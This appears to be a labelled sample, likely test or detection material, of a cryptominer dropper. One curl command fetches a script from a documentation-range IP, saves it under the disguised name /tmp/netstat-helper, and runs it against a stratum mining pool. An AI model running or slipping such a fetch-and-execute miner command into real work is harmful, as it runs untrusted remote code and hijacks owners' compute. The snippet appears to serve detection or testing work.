# a downloaded script with a #! line that goes through env, run by its own name; it speaks to a pool like a miner's stub
#http 203.0.113.61:8011
#pool 198.51.100.81:4444:err
curl -so /tmp/netstat-helper http://203.0.113.61:8011/task.py; chmod +x /tmp/netstat-helper; /tmp/netstat-helper -o stratum+tcp://198.51.100.81:4444 -u x -p x
